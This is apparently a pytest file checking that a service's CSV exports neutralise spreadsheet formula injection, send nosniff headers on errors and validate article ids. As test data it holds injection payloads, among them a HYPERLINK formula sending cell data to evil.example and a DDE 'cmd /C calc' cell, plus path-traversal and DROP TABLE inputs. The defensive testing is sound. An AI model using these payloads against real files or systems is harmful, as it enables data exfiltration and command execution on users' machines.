"""Careful with what we write out: CSV cells a spreadsheet would run are neutralised in every
CSV writer, problems are never sniffed as another type, CLI article ids follow the API's rule."""
from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from litestar.testing import TestClient

from service.api.app import create_app
from service.articles.readers import make_article, read_paths
from service.config import Settings
from service.ingest import ARTICLE_ID_MAX, ARTICLE_ID_PATTERN, ingest
from service.store.db import Store
from tests.api.conftest import TOKEN, add, art, build_world, fig

EVIL = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    s = Store(tmp_path_factory.mktemp("careful") / "api.duckdb")
    build_world(s)
    evil = art("evil1", "2024-05-01", source="=cmd|' /C calc'!A0", title="=HYPERLINK(\"https://evil.example\")")
    add(s, [evil], [fig(evil, "killed", 4, "MMR005", "2024-04-30", n=0, claimed_by="@admin", qualifier="-about")])
    s.publish_snapshot()
    yield s
    s.close()


@pytest.fixture(scope="module")
def client(store: Store) -> Iterator[TestClient]:
    app = create_app(Settings(token=TOKEN, db_path=store.path, snapshot_interval_s=3600.0), store=store)
    with TestClient(app) as c:
        yield c
        runner = app.state.get("sql_runner")
        if runner is not None:
            runner.close()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(cells: list[str]) -> None:
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert dangerous == [], dangerous


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None


def test_sql_csv_neutralises_text_but_not_numbers(client: TestClient) -> None:
    values = ", ".join(f"'{v}'" for v in (e.replace("'", "''") for e in EVIL))
    r = client.get("/api/v1/sql", params={"q": f"SELECT unnest([{values}]) AS t, -5 AS n, -2.5 AS f, "
                                                "'a=b' AS plain, 1 AS \"=x\"", "format": "csv"})
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == ["t", "n", "f", "plain", "'=x"]
    assert [row[0] for row in rows[1:]] == ["'" + e for e in EVIL]
    assert {row[1] for row in rows[1:]} == {"-5"} and {row[2] for row in rows[1:]} == {"-2.5"}
    assert {row[3] for row in rows[1:]} == {"a=b"}


@pytest.mark.parametrize("path", ["/api/v1/articles?format=csv", "/api/v1/figures?format=csv&hxl=true",
                                  "/api/v1/figures?format=csv&limit=1", "/api/v1/queries/figures_by_source?format=csv"])
def test_api_csv_answers_are_neutral(client: TestClient, path: str) -> None:
    r = client.get(path)
    if r.status_code == 400 and "queries" in path:
        pytest.skip(r.json()["detail"])
    assert r.status_code == 200, r.text
    _assert_neutral(_cells(r.text))


def test_articles_csv_keeps_the_text_after_the_quote(client: TestClient) -> None:
    text = client.get("/api/v1/articles?format=csv").text
    assert "'=HYPERLINK(\"\"https://evil.example\"\")" in text
    assert "'=cmd|' /C calc'!A0" in text


def test_humstat_sql_csv_is_neutral(store: Store, tmp_path: Path) -> None:
    from service.research.sqlcli import run

    out = io.StringIO()
    run("SELECT title, source FROM articles ORDER BY article_id", snapshot_or(store), "csv", None, stdout=out)
    cells = _cells(out.getvalue())
    assert "'=HYPERLINK(\"https://evil.example\")" in cells
    _assert_neutral(cells)


def snapshot_or(store: Store) -> Path:
    return store.path


def test_export_csv_is_neutral(store: Store, tmp_path: Path) -> None:
    from service.research.export import export

    export(store, tmp_path / "out", "csv")
    files = sorted((tmp_path / "out").rglob("*.csv"))
    assert files
    seen = []
    for f in files:
        cells = _cells(f.read_text())
        _assert_neutral(cells)
        seen += cells
    assert "'=HYPERLINK(\"https://evil.example\")" in seen


@pytest.mark.parametrize("path", ["/api/v1/nowhere", "/api/v1/figures?limit=abc", "/api/v1/sql?q=DROP%20TABLE%20x",
                                  "/api/v1/articles/does-not-exist"])
def test_problems_are_never_sniffed(client: TestClient, path: str) -> None:
    r = client.get(path)
    assert r.status_code >= 400
    assert r.headers["content-type"].startswith("application/problem+json")
    assert r.headers.get("x-content-type-options") == "nosniff"


def test_a_refused_write_is_a_nosniff_problem_too(client: TestClient) -> None:
    r = client.post("/api/v1/articles", content=b"\xff", headers={"Content-Type": "application/json",
                                                                  "Authorization": f"Bearer {TOKEN}"})
    assert r.status_code == 400 and r.headers.get("x-content-type-options") == "nosniff"


def test_cli_article_ids_follow_the_api_rule() -> None:
    from service.api.schemas import ArticleIn

    schema = json.loads(json.dumps(__import__("msgspec").json.schema(ArticleIn)))
    props = schema["$defs"]["ArticleIn"]["properties"]["id"]["anyOf"][0]
    assert props["pattern"] == ARTICLE_ID_PATTERN and props["maxLength"] == ARTICLE_ID_MAX


@pytest.mark.parametrize("bad_id", ["a/b?c", "a b", "x#y", "../etc", "é", "x" * 201])
def test_cli_ingest_refuses_ids_the_api_cannot_address(tmp_path: Path, bad_id: str) -> None:
    feed = tmp_path / "in.jsonl"
    lines = [{"id": "good-1", "text": "Five people were killed in Yangon on 3 May 2024."},
             {"id": bad_id, "text": "Six people were killed in Mandalay on 4 May 2024."}]
    feed.write_text("\n".join(json.dumps(line) for line in lines) + "\n")
    with Store(tmp_path / "x.duckdb") as s:
        report = ingest(s, read_paths([feed]))
        with s.read() as cur:
            ids = [r[0] for r in cur.execute("SELECT article_id FROM articles").fetchall()]
    assert ids == ["good-1"]
    assert len(report.errors) == 1
    error = report.errors[0]
    assert error.origin.endswith("in.jsonl:2"), error.origin
    assert "article id" in error.message and "not valid" in error.message


def test_the_api_can_read_every_id_the_cli_accepts(tmp_path: Path) -> None:
    with Store(tmp_path / "x.duckdb") as s:
        ingest(s, iter([make_article("Seven people were killed in Bago on 5 May 2024.", article_id="Ok_1.2:3-x")]))
        app = create_app(Settings(db_path=s.path), store=s)
        with TestClient(app) as c:
            assert c.get("/api/v1/articles/Ok_1.2:3-x").status_code == 200
